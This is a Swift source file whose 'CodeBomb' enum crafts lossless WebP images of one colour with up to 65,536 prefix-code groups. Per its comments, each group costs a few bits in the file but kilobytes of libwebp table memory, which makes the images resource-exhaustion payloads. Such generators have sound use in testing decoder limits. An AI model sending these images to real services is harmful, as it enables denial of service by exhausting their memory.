/// Lossless WebPs of one colour with any number of groups of prefix codes: each takes a few bits, and libwebp kilobytes for its tables.
public enum CodeBomb {
    /// Returns a square picture in which each area of 4 × 4 pixels has the next group, the last ones the last group.
    ///
    /// - Parameter groups: 1 to 65,536.
    public static func picture(side: Int, groups: Int) -> [UInt8] {
        var bits = Bits()
        bits.write(0x2F, 8)
        bits.write(side - 1, 14)
        bits.write(side - 1, 14)
        // Alpha, version 0, no transform, no cache of colours; groups for areas of 4 × 4.
        for (value, count) in [(1, 1), (0, 3), (0, 1), (0, 1), (1, 1), (0, 3)] { bits.write(value, count) }
        // The picture with the numbers: no cache, all values of green and red with 8 bits, 0 for the rest.
        bits.write(0, 1)
        bits.writeBytes(of: 280)
        bits.writeBytes(of: 256)
        for _ in 1...3 { bits.writeZero() }
        let areas = (side + 3) / 4
        for area in 0..<areas * areas {
            let group = min(area, groups - 1)
            bits.write(reversed(group & 0xFF), 8)
            bits.write(reversed(group >> 8), 8)
        }
        // Five codes of one symbol each, so that the pixels take no bits.
        for _ in 0..<groups * 5 { bits.writeZero() }
        let data = bits.bytes + (bits.bytes.count % 2 == 1 ? [0] : [])
        let chunk = Array("VP8L".utf8) + number(bits.bytes.count) + data
        return Array("RIFF".utf8) + number(4 + chunk.count) + Array("WEBP".utf8) + chunk
    }

    private static func number(_ value: Int) -> [UInt8] { (0..<4).map { UInt8(value >> (8 * $0) & 0xFF) } }

    /// A code's first bit is that of its highest value.
    private static func reversed(_ byte: Int) -> Int { (0..<8).reduce(0) { $0 | (byte >> $1 & 1) << (7 - $1) } }

    private struct Bits {
        private(set) var bytes: [UInt8] = []
        private var count = 0

        mutating func write(_ value: Int, _ bits: Int) {
            for bit in 0..<bits {
                if count % 8 == 0 { bytes.append(0) }
                if value >> bit & 1 == 1 { bytes[count / 8] |= 1 << UInt8(count % 8) }
                count += 1
            }
        }

        /// Writes the code of the symbol 0 alone.
        mutating func writeZero() { write(1, 4) }

        /// Writes a code of 8 bits for each of 256 symbols.
        mutating func writeBytes(of symbols: Int) {
            // The lengths 0 and 8 have codes of one bit.
            write(0, 1)
            write(12 - 4, 4)
            for length in [17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8] { write(length == 0 || length == 8 ? 1 : 0, 3) }
            write(0, 1)
            for symbol in 0..<symbols { write(symbol < 256 ? 1 : 0, 1) }
        }
    }
}
